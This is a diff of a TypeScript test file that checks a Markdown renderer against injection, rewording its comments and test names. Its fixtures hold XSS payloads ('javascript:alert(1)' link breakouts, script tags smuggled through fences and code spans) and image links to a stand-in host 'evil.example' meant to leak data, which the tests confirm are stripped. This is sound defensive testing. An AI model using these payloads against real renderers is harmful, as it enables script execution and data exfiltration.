@@ -1,5 +1,5 @@
-// In the forms that are read as Markdown, texts that are safe alone stand beside each other: together they must be safe
-// too, and what a person reads must stay.
+// In the formats that are rendered as Markdown, texts that are safe alone are concatenated. The result must be safe
+// too, and must not lose visible text.
 import { fromMarkdown } from 'mdast-util-from-markdown';
 import { gfmFromMarkdown } from 'mdast-util-gfm';
 import { gfm } from 'micromark-extension-gfm';
@@ -41,21 +41,21 @@ const parse = (markdown: string): Node =>
 const harmOf = (markdown: string) => [...harmIn(parse(markdown)), ...harmIn(fromMarkdown(markdown))];
 
 const hostile: Readonly<Record<string, string>> = {
-  'a URL that ends its link': 'Image("x", "https://x.example/)[y](javascript:alert(1))")',
+  'a URL that closes its link': 'Image("x", "https://x.example/)[y](javascript:alert(1))")',
   'a URL of a button':
     'Buttons([Button("x", {type: "open_url", params: {url: "https://x.example/)[y](javascript:alert(1))"}})])',
-  'a definition of two texts': 'ListBlock([ListItem("[x]", "javascript:alert(1)")]), TextContent("[x]")',
-  'a link of two tags': 'TagBlock(["[a", "b](javascript:alert(1))"])',
+  'a link definition made of two texts': 'ListBlock([ListItem("[x]", "javascript:alert(1)")]), TextContent("[x]")',
+  'a link made of two tags': 'TagBlock(["[a", "b](javascript:alert(1))"])',
   'a fence that another block closes': 'TextContent("```\\na"), TextContent("```\\n<script>alert(1)</script>")',
-  'a fence in one line': 'Steps([StepsItem("One", "~~~\\n<script>alert(1)</script>\\n~~~")])',
+  'a fence in a single-line text': 'Steps([StepsItem("One", "~~~\\n<script>alert(1)</script>\\n~~~")])',
   'a code span that a title opens': 'Steps([StepsItem("a ` b", "`<script>alert(1)</script>`")])',
   'the same in a callout': 'Callout("info", "a ` b", "`<script>alert(1)</script>`")',
-  'a backtick behind a fence': 'CodeBlock("a`b", "x\\n<b>")',
+  'a backtick in the language of a fence': 'CodeBlock("a`b", "x\\n<b>")',
   'HTML behind a bare URL': 'CardHeader("www.a.b<script>alert(1)</script>")',
   'a head of a large table': `Table([Col("<script>x</script>", [${'1, '.repeat(600)}])])`,
 };
 
-describe('URLs that are not known', () => {
+describe('URLs of unknown provenance', () => {
   const urls = knownUrlsIn(['https://ok.example/a.png https://ok.example/w_(x) https://ok.example/b']);
   const compiled = (children: string, format: UiFormat, policy: MarkdownPolicy): string => {
     const writer = format === 'json' ? undefined : createRecordingWriter(format, catalog, policy);
@@ -70,7 +70,7 @@ describe('URLs that are not known', () => {
     'a picture in Markdown': 'TextContent("![x](https://evil.example/?d=1)")',
     'a code span over two blocks': 'TextContent("` a"), TextContent("` ![x](https://evil.example/?d=1)")',
     'a fence over two blocks': 'TextContent("```\\na"), TextContent("```\\n![x](https://evil.example/?d=1)\\n```")',
-    'a picture of two texts': 'TextContent("![x"), TextContent("](https://evil.example/?d=1)")',
+    'a picture made of two texts': 'TextContent("![x"), TextContent("](https://evil.example/?d=1)")',
     'a definition in another block': 'TextContent("![x][y]"), TextContent("[y]: https://evil.example/?d=1")',
     'cells of a table': 'Table([Col("![x", ["a"]), Col("](https://evil.example/?d=1)", ["b"])])',
   };
@@ -81,8 +81,8 @@ describe('URLs that are not known', () => {
     'a bare URL in plain text': 'CardHeader("https://evil.example/?d=1"), Label("www.evil.example/?d=1")',
   };
 
-  describe.each(['json', 'openui', 'a2ui', 'markdown'] as const)('in the form %s', (format) => {
-    /** What is read as Markdown. */
+  describe.each(['json', 'openui', 'a2ui', 'markdown'] as const)('in format %s', (format) => {
+    /** The texts that clients render as Markdown. */
     const markdownIn = (content: string): readonly string[] => {
       if (format === 'markdown') return [content];
       if (format === 'a2ui') return textsIn(content);
@@ -97,7 +97,7 @@ describe('URLs that are not known', () => {
       ...(node.type === 'image' || node.type === 'imageReference' ? [node.url ?? 'by reference'] : []),
       ...(node.children ?? []).flatMap(imagesIn),
     ];
-    test.each(Object.entries({ ...places, ...links }))('none in %s', (_, children) => {
+    test.each(Object.entries({ ...places, ...links }))('are removed from %s', (_, children) => {
       const content = compiled(children, format, { images: urls, links: urls });
       expect(markdownIn(content).flatMap((text) => [...urlsIn(parse(text)), ...urlsIn(fromMarkdown(text))])).toEqual(
         [],
@@ -105,7 +105,7 @@ describe('URLs that are not known', () => {
       expect(content).not.toMatch(/"(?:src|url)":"https:\/\/evil|OpenUrl\("https:\/\/evil/);
     });
 
-    test.each(Object.entries(places))('no picture in %s', (_, children) => {
+    test.each(Object.entries(places))('are not loaded as an image by %s', (_, children) => {
       const content = compiled(children, format, { images: urls });
       const pictures = markdownIn(content).flatMap((text) => [
         ...imagesIn(parse(text)),
@@ -115,7 +115,7 @@ describe('URLs that are not known', () => {
       expect(content).not.toMatch(/"(?:src|url)":"https:\/\/evil/);
     });
 
-    test('those that are known stay', () => {
+    test('known URLs are kept', () => {
       const known = 'Image("A [1] \\\\ b", "https://ok.example/w_(x)"), TextContent("![x](https://ok.example/a.png)")';
       const button = 'Buttons([Button("b", {type: "open_url", params: {url: "https://ok.example/b"}})])';
       const content = compiled(`${known}, ${button}`, format, { images: urls, links: urls });
@@ -126,19 +126,19 @@ describe('URLs that are not known', () => {
   });
 });
 
-describe.each(['markdown', 'a2ui'] as const)('in the form %s', (format) => {
-  test.each(Object.entries(hostile))('no harm: %s', (_, children) => {
+describe.each(['markdown', 'a2ui'] as const)('in format %s', (format) => {
+  test.each(Object.entries(hostile))('is safe: %s', (_, children) => {
     expect(textsOf(children, format).flatMap(harmOf)).toEqual([]);
   });
 });
 
-test('an error is words', () => {
+test('an error is plain text', () => {
   const [markdown = ''] = textsOf('TextContent("a")', 'markdown', 'It <b>broke</b>\n\n# off');
   expect(harmOf(markdown)).toEqual([]);
   expect(parse(markdown).children?.at(-1)?.type).toBe('blockquote');
 });
 
-test('labels and URLs of links and pictures stay what they are', () => {
+test('keeps the URLs of images whatever their label contains', () => {
   const urlsOf = (node: Node): readonly string[] => [
     ...(node.url === undefined ? [] : [`${node.type} ${decodeURI(node.url)}`]),
     ...(node.children ?? []).flatMap(urlsOf),
